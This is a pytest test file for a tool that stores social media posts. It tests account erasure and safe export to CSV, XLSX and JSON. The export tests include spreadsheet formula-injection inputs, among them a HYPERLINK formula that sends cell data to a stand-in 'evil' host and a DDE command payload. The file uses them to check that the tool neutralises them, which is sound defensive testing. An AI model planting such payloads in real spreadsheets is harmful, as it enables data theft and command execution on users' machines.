"""The store's own commands: what it holds, and forgetting an account to the last byte."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

CSV = "date,text,likes,comments,shares,permalink\n" + "".join(
    f"2026-10-{day:02} 10:00,Parolasegreta numero {day},{day},0,0,https://esempio.example.com/postsegreto/{day}\n"
    for day in range(1, 21)
)
REF, OTHER = "facebook:nomesegreto", "facebook:altro"


@pytest.fixture
def filled(run, tmp_path: Path) -> Path:
    """A store with two accounts from files; one of them is to be forgotten."""
    for ref, name in ((REF, "filesegreto.csv"), (OTHER, "altro.csv")):
        path = tmp_path / name
        path.write_text(CSV if ref == REF else CSV.replace("segret", "altr"), encoding="utf-8")
        done = run("import", path, "--account", ref, "--followers", "1234")
        assert done.exit_code == 0, done.output
    return Path(os.environ["AUDITOR_STORE"])


def bytes_of(store: Path) -> bytes:
    return b"".join(path.read_bytes() for path in sorted(store.parent.glob(f"{store.name}*")))


SECRETS = (b"nomesegreto", b"arolasegreta", b"postsegreto", b"filesegreto")


def test_status_says_what_is_kept_from_where_and_how_large(run, filled: Path) -> None:
    data = json.loads(run("status", "--json").stdout)
    assert data["bytes"] == len(bytes_of(filled))
    assert [
        (account["ref"], account["own_posts"], account["origins"]) for account in data["accounts"]
    ] == [
        (OTHER, 20, ["export"]),
        (REF, 20, ["export"]),
    ]
    assert data["accounts"][1]["followers"] == 1234
    assert data["accounts"][1]["covered"][0] == "2026-10-01T10:00:00Z"
    stdout = run("--language", "it", "status").stdout
    assert "ultima lettura" in stdout
    assert "facebook:nomesegreto" in stdout
    assert "Archivio:" in stdout


def test_an_empty_store_says_how_to_begin(run) -> None:
    assert "auditor import" in run("status").stdout


def test_forgotten_means_no_byte_is_left(run, filled: Path) -> None:
    copy = filled.with_name(f"{filled.name}.before-20260101-000000")
    shutil.copy(filled, copy)
    before = bytes_of(filled)
    assert all(secret in before for secret in SECRETS)
    done = run("forget", REF, "--yes")
    assert done.exit_code == 0, done.output
    assert "with 20 posts" in done.stdout
    assert copy.name in done.stdout
    assert "not reached" in done.stdout
    left = bytes_of(filled)
    assert [secret for secret in SECRETS if secret in left] == []
    with sqlite3.connect(filled) as connection:
        assert connection.execute("SELECT count(*) FROM post").fetchone() == (20,)
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_every_table_that_belongs_to_an_account_is_emptied(run, filled: Path) -> None:
    with sqlite3.connect(filled) as connection:
        tables = [
            row[0]
            for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
        ]
        owned = [
            table
            for table in tables
            if any(
                row[2] == "account"
                for row in connection.execute(f"PRAGMA foreign_key_list({table})")
            )
        ]
        (number,) = connection.execute(
            "SELECT id FROM account WHERE handle = 'nomesegreto'"
        ).fetchone()
        connection.execute(
            "INSERT INTO incoming (account_id, day, comments) VALUES (?, 'x', 1)", (number,)
        )
    assert {"run", "post", "comment", "profile_snapshot", "incoming", "account_alias"} <= set(owned)
    assert run("forget", REF, "--yes").exit_code == 0
    with sqlite3.connect(filled) as connection:
        for table in owned:
            left = f"SELECT count(*) FROM {table} WHERE account_id = ?"
            assert connection.execute(left, (number,)).fetchone() == (0,), table
        assert connection.execute("PRAGMA foreign_key_check").fetchall() == []


def test_forget_asks_first_and_without_anybody_to_ask_erases_nothing(run, filled: Path) -> None:
    done = run("forget", REF)
    assert done.exit_code == 2
    assert "--yes" in done.stderr
    assert b"nomesegreto" in bytes_of(filled)


def test_one_unknown_name_and_nothing_is_erased(run, filled: Path) -> None:
    done = run("forget", REF, "facebook:mai-visto", "--yes")
    assert done.exit_code == 2
    assert "facebook:mai-visto" in done.stderr
    assert b"nomesegreto" in bytes_of(filled)


def test_forget_tells_programs_what_it_erased(run, filled: Path) -> None:
    done = run("forget", REF, "--yes", "--json")
    data = json.loads(done.stdout)
    assert (data["erased"], data["copies"]) == ({REF: 20}, [])
    assert (data["unread_copies"], data["held"]) == ([], False)


@pytest.mark.parametrize("bad", [b"", b"no store at all" * 99, None])
def test_one_bad_copy_does_not_keep_the_others(run, filled: Path, bad: bytes | None) -> None:
    """An empty one, as an update that was killed leaves, a damaged one, a folder of that name."""
    broken = filled.with_name(f"{filled.name}.before-20250101-000000")
    good = filled.with_name(f"{filled.name}.before-20260101-000000")
    shutil.copy(filled, good)
    broken.mkdir() if bad is None else broken.write_bytes(bad)
    done = run("forget", REF, "--yes")
    assert done.exit_code == (0 if bad == b"" else 1), done.output
    assert (broken.name in done.stderr) == (bad != b"")
    if bad is None:
        broken.rmdir()
    assert b"nomesegreto" not in bytes_of(filled)


def test_what_only_a_copy_still_holds_is_erased_there(run, filled: Path) -> None:
    """As after an erasing that was broken off between the store and its copies."""
    copy = filled.with_name(f"{filled.name}.before-20260101-000000")
    shutil.copy(filled, copy)
    assert run("forget", REF, "--yes").exit_code == 0
    before = filled.with_name("again")
    shutil.copy(filled, before)
    with sqlite3.connect(copy) as connection:
        connection.execute(
            "INSERT INTO account (platform, handle, first_seen_at) VALUES "
            "('facebook', 'nomesegreto', '2026-01-01T00:00:00.000Z')"
        )
    done = run("forget", REF, "--yes")
    assert done.exit_code == 0, done.output
    assert copy.name in done.stdout
    assert b"nomesegreto" not in copy.read_bytes()
    assert run("forget", REF, "--yes").exit_code == 2


def test_a_program_that_reads_the_store_is_told_of(run, filled: Path, monkeypatch) -> None:
    reader = sqlite3.connect(filled, isolation_level=None)
    monkeypatch.setattr("auditor.store.engine.BUSY_SECONDS", 0.5)
    reader.execute("BEGIN")
    reader.execute("SELECT count(*) FROM post").fetchone()
    done = run("forget", REF, "--yes")
    assert done.exit_code == 1, done.output
    assert "Another program reads the store" in done.stderr
    reader.close()
    again = run("forget", REF, "--yes")
    assert again.exit_code == 0, again.output
    assert "now gone from the file" in again.stdout
    assert b"nomesegreto" not in bytes_of(filled)


STEPS = ("_clean_copies", "_erase_rows", "_squeeze", "_squeeze_file", "_copies_by_hand")


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize(
    "fault", [OSError(28, "full"), sqlite3.OperationalError("disk is full"), KeyboardInterrupt()]
)
@pytest.mark.parametrize("after", [False, True])
def test_whatever_breaks_forget_off_the_next_call_ends_it(
    run, filled: Path, monkeypatch, step: str, fault: BaseException, after: bool
) -> None:
    from auditor.store import erasing

    shutil.copy(filled, filled.with_name(f"{filled.name}.before-20260101-000000"))
    plain = getattr(erasing, step)

    def broken(*arguments: object, **more: object) -> object:
        if after:
            plain(*arguments, **more)
        raise fault

    with monkeypatch.context() as patch:
        patch.setattr(erasing, step, broken)
        assert run("forget", REF, "--yes").exit_code != 0
    run("forget", REF, "--yes")
    assert b"nomesegreto" not in bytes_of(filled)
    with sqlite3.connect(filled) as connection:
        assert connection.execute("PRAGMA user_version").fetchone() == (0,)


def test_a_forgetting_that_was_broken_off_ends_at_any_next_command(
    run, filled: Path, monkeypatch
) -> None:
    from auditor.store import erasing

    with monkeypatch.context() as patch:
        patch.setattr(erasing, "_squeeze", lambda engine, patience=None: False)
        assert run("forget", REF, "--yes").exit_code == 1
    assert run("status").exit_code == 0
    assert b"nomesegreto" not in bytes_of(filled)


@pytest.mark.parametrize("name", ["{}.bak", "copia di {}", "{}.old.sqlite3"])
def test_a_copy_made_by_hand_is_named_and_left(run, filled: Path, name: str) -> None:
    copy = filled.with_name(name.format(filled.name))
    shutil.copy(filled, copy)
    before = copy.read_bytes()
    done = run("forget", REF, "--yes")
    assert done.exit_code == 0
    assert copy.name in done.stdout
    assert copy.read_bytes() == before


EVIL = [
    "=1+1",
    "+39 06 1234",
    "-cmd",
    "@amico",
    "\tx",
    "dopo\n=2",
    'con "virgolette", e; altro',
    "àèì 🍝",
]


@pytest.fixture
def evil(run, tmp_path: Path) -> None:
    """Posts whose texts a spreadsheet would run, with a count that a float would spoil."""
    path = tmp_path / "cattivi.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "date", "text", "likes", "comments", "shares"])
        for n, text in enumerate(EVIL):
            likes = "" if n == 2 else 123_456_789_012 if n == 3 else n
            writer.writerow(
                [f"1224096172345678{n:02}", f"2026-10-{n + 1:02} 10:00", text, likes, 0, 0]
            )
    assert run("import", path, "--account", REF).exit_code == 0


def test_a_table_holds_every_post_with_formulas_made_harmless(run, evil: None) -> None:
    done = run("export", REF, "--machine-names")
    assert done.exit_code == 0, done.output
    (path,) = Path().glob("posts-*.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(EVIL)
    for row, text in zip(rows, EVIL, strict=True):
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row["text"].replace("'", "").strip() == text.strip()
    assert [row["reactions"] for row in rows][:4] == ["0", "1", "", "123456789012"]
    assert rows[0]["platform_id"] == "122409617234567800"
    assert rows[0]["published_at"] == "2026-10-01T10:00:00Z"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("written", ["comma", "semicolon", "tab"])
def test_no_formula_wherever_a_spreadsheet_splits(
    run, tmp_path: Path, separator: str, written: str
) -> None:
    """Read with another separator than it was written with, as in another country."""
    texts = [f"x{sign}{start}1+1" for sign in ",;\t|\n" for start in "=+-@"]
    texts += [
        'x;=HYPERLINK("http://evil.example"&A1;"click")',
        'a;"=1+1"',
        "a,''=1",
        '=cmd|"/c"!A1',
    ]
    table = tmp_path / "a.csv"
    with table.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "date", "text", "likes"])
        writer.writerows([n, f"2026-10-{n + 1:02} 10:00", text, n] for n, text in enumerate(texts))
    assert run("import", table, "--account", REF).exit_code == 0
    assert run("export", REF, "--separator", written, "--out", "out.csv").exit_code == 0
    with Path("out.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=separator))
    cells = [cell for row in rows for cell in row]
    assert [
        cell
        for cell in cells
        if cell.lstrip("\"'").startswith(tuple("=+-@")) and not cell.startswith(("'", '"'))
    ] == []
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == []


def test_an_italian_table_opens_in_columns(run, evil: None) -> None:
    assert run("--language", "it", "export", REF, "--out", "it.csv").exit_code == 0
    with Path("it.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=";"))
    assert len(rows) == len(EVIL)
    assert rows[0]["Account"] == REF
    assert rows[0]["Data"] == "01/10/2026 10:00"
    assert run("export", REF, "--out", "en.csv").exit_code == 0
    assert Path("en.csv").read_bytes().count(b",") > Path("en.csv").read_bytes().count(b";")


def test_an_export_can_be_imported_again(run, evil: None, tmp_path: Path) -> None:
    assert run("--language", "it", "export", REF, "--out", "it.csv").exit_code == 0
    done = run("import", "it.csv", "--account", REF, "--store", tmp_path / "b.sqlite3", "--yes")
    assert done.exit_code == 0, done.output


@pytest.mark.parametrize(("spoken", "head"), [("it", "Data"), ("en", "Date")])
def test_a_workbook_has_typed_cells_in_the_readers_words(
    run, evil: None, spoken: str, head: str
) -> None:
    done = run("--language", spoken, "export", REF, "--format", "xlsx", "--out", "x.xlsx")
    assert done.exit_code == 0, done.output
    data = Path("x.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert len(rows) == len(EVIL) + 1
    assert str(rows[1][rows[0].index(head)]) == "2026-10-01 10:00:00"
    done = run("export", "--format", "xlsx", "--out", "-")
    assert (done.exit_code, "standard output" in done.stderr) == (2, True)
    done = run("import", "x.xlsx", "--account", REF, "--store", "b.sqlite3", "--yes")
    assert done.exit_code == 0, done.output


def test_json_holds_the_same_with_null_for_unknown(run, evil: None) -> None:
    done = run("export", "--format", "json", "--out", "-")
    posts = json.loads(done.stdout)
    assert [post["text"].strip() for post in posts] == [text.strip() for text in EVIL]
    assert [post["reactions"] for post in posts][:4] == [0, 1, None, 123_456_789_012]
    assert posts[0]["account"] == REF
    assert list(Path().iterdir()) == []


def test_a_later_observation_counts_and_nothing_is_overwritten_by_nothing(
    run, tmp_path: Path
) -> None:
    for day, likes, comments in (("02", "5", "1"), ("20", "9", "")):
        path = tmp_path / f"{day}.csv"
        path.write_text(
            f"id,date,text,likes,comments\n1,2026-10-01 10:00,Ciao,{likes},{comments}\n"
        )
        assert (
            run("import", path, "--account", REF, "--observed-at", f"2026-10-{day}").exit_code == 0
        )
    (post,) = json.loads(run("export", "--format", "json", "--out", "-").stdout)
    assert (post["reactions"], post["comments"]) == (9, 1)


def test_an_export_overwrites_nothing_unless_it_is_named(run, evil: None) -> None:
    assert run("export").exit_code == run("export").exit_code == 0
    assert len(list(Path().glob("posts-*.csv"))) == 2
    for _ in range(2):
        assert run("export", "--out", "mio.csv").exit_code == 0
    assert not list(Path().glob(".*.part"))


def test_an_empty_store_exports_an_empty_list(run) -> None:
    assert json.loads(run("export", "--format", "json", "--out", "-").stdout) == []


def test_history_lists_the_readings_with_their_files(run, filled: Path) -> None:
    (reading,) = json.loads(run("history", REF, "--json").stdout)
    assert (reading["file"], reading["items"], reading["followers"]) == (
        "filesegreto.csv",
        20,
        1234,
    )
    assert reading["covered"][0] == "2026-10-01T10:00:00Z"
    assert "filesegreto.csv" in run("history", REF).stdout
    assert run("history", "facebook:mai-visto").exit_code == 2


def test_two_results_stand_side_by_side(run, filled: Path, tmp_path: Path) -> None:
    for name, refs in (("uno", [REF]), ("due", [REF, OTHER])):
        done = run("audit", *refs, "--offline", "--out", tmp_path / name)
        assert done.exit_code == 0, done.output
    results = [tmp_path / name / "result.json" for name in ("uno", "due")]
    pairs = json.loads(run("compare", *results, "--json").stdout)
    assert [pair["ref"] for pair in pairs] == [REF, OTHER]
    assert pairs[0]["first"] == pairs[0]["second"]
    assert pairs[1]["first"] is None
    stdout = run("--language", "it", "compare", *results).stdout
    assert "non è in questo risultato" in stdout


def test_a_wrong_name_is_told_as_such(run, evil: None) -> None:
    done = run("export", "--out", "nowhere/x.csv")
    assert (done.exit_code, "nowhere does not exist" in done.stderr) == (2, True)
    done = run("compare", "a.json", "b.json")
    assert (done.exit_code, "a.json does not exist" in done.stderr) == (2, True)


def test_a_try_that_brought_nothing_is_no_reading(run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("FACEBOOK_ACCESS_TOKEN", raising=False)
    assert run("collect", "facebook:esempio").exit_code == 3
    (row,) = json.loads(run("status", "--json").stdout)["accounts"]
    assert (row["read_at"], row["own_posts"]) == (None, None)
    assert row["tried_at"] is not None
    assert "never (tried: today)" in run("status").stdout
